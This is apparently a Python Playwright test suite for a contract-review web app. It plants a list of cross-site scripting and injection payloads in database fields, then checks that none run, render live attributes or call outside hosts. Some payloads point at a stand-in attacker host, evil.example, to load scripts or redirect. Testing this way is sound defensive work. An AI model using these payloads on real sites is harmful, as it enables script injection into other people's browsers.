"""What strangers wrote, on every page of a real browser: nothing of it runs, and nobody else is asked for
anything."""

from __future__ import annotations

import re
from collections.abc import Sequence

import pytest
import sqlalchemy as sa
from playwright.sync_api import Page, expect

from review import desk
from review.model import Verdict
from review.store import Store
from review.store import schema as t
from screens.frame import OF_A_SERVER, PAGES
from tests.browser.conftest import Server
from tests.browser.drawing import settled
from tests.screens.example import fill

pytestmark = [pytest.mark.browser, pytest.mark.long]
ALIVE = (
    "<script>window.alive=1</script>",
    "<img src=x onerror=window.alive=1>",
    "<svg onload=window.alive=1><circle r=9 onclick=window.alive=1></svg>",
    "</textarea></style></title><script>window.alive=1</script>",
    "\"'><b style=position:fixed;inset:0 onmouseover=window.alive=1>x",
    "<iframe srcdoc='<script>top.alive=1</script>'></iframe>",
    "[vea](javascript:window.alive=1) <a href=javascript:window.alive=1>vea</a>",
    "![foto](https://evil.example/a.png) <link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=q autofocus onfocus=window.alive=1></form>",
    "</script><script src=https://evil.example/a.js></script>",
    "{{constructor.constructor('window.alive=1')()}} ${window.alive=1} <% alive=1 %>",
    "$$\\href{javascript:window.alive=1}{x}$$ :material/home: :red[x] &lt;script&gt;",
    "\u202egnp.exe\u2066 \u0000\u200f<style>body{display:none}</style>",
)
WRITTEN = {
    t.CONTRACTS: ("number", "contractor", "entity", "purpose", "supervisor", "bank", "account_type"),
    t.SUBMISSIONS: ("archivo", "reason", "contract", "contractor", "first_finding", "rp"),
    t.FINDINGS: ("message", "expected", "found", "norm", "request"),
    t.FIELDS: ("text", "note"),
    t.FOLDERS: ("path",),
}
"""Where the text of papers, lists and names stands."""
VIEWS = (
    *("" if name == "inicio" else name for name in PAGES if name not in OF_A_SERVER),
    *("bandeja?mes=todos", "bandeja?mes=2026-06&compacta=si", "inicio?mes=2026-06"),
    *(f"revisar?cuenta={number}" for number in (1, 8, 13)),
    *(f"revisar?cuenta=1&panel={panel}" for panel in ("corregir", "historia")),
    *("pagos?vista=mes&mes=2026-06", "cumplimiento?vista=meses", "mi_cuenta?vista=guia"),
)
ROUNDS = 3  # each view is loaded as often, with every text in other places
# What would be alive if it had been taken for markup: a handler, an address that is run, a stranger's frame.
LIVING = """() => [...document.querySelectorAll('*')].flatMap(one => [...one.attributes]
    .filter(a => /^on/.test(a.name) || /^\\s*javascript:/i.test(a.value) || /evil\\.example/.test(a.value)
        && /^(src|href|action|data|srcset|poster)$/.test(a.name))
    .map(a => `${one.tagName} ${a.name}=${a.value}`.slice(0, 120)))"""


def write(store: Store, texts: Sequence[str]) -> None:
    """Each text into other rows, and into what people say."""
    with store.writing() as connection:
        for table, names in WRITTEN.items():
            key = next(iter(table.primary_key))
            for place, (number,) in enumerate(connection.execute(sa.select(key)).all()):
                told = {
                    name: f"{texts[(place + at) % len(texts)].replace(chr(0), '')} {place}"
                    for at, name in enumerate(names)
                }
                connection.execute(sa.update(table).where(key == number).values(told))
    for number, text in enumerate(texts, start=1):
        said = text.replace("\0", "")
        desk.decide(store, number, Verdict.DEVUELTA, said, f"Ana {said}"[:90])


@pytest.mark.parametrize("turn", range(ROUNDS))
def test_nothing_that_a_stranger_wrote_is_alive(server: Server, page: Page, turn: int) -> None:
    first = turn * len(ALIVE) // ROUNDS
    with Store.open(str(server.database)) as store:
        fill(store)
        write(store, [*ALIVE[first:], *ALIVE[:first]])
    asked: list[str] = []
    spoken: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (spoken.append(dialog.message), dialog.dismiss()))
    shown = 0
    for view in VIEWS:
        page.goto(f"{server.address}/{view}")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        settled(page)
        assert [frame.evaluate("window.alive") for frame in page.frames] == [None] * len(page.frames), view
        assert page.evaluate(LIVING) == [], view
        assert re.match(re.escape(server.address), page.url), view
        shown += "window.alive" in page.inner_text("body")
    assert shown >= 5, "they were on the screens, as text"
    assert spoken == []
    own = (server.address, server.address.replace("http", "ws"), "data:", "blob:", "about:")
    assert [one for one in asked if not one.startswith(own)] == []
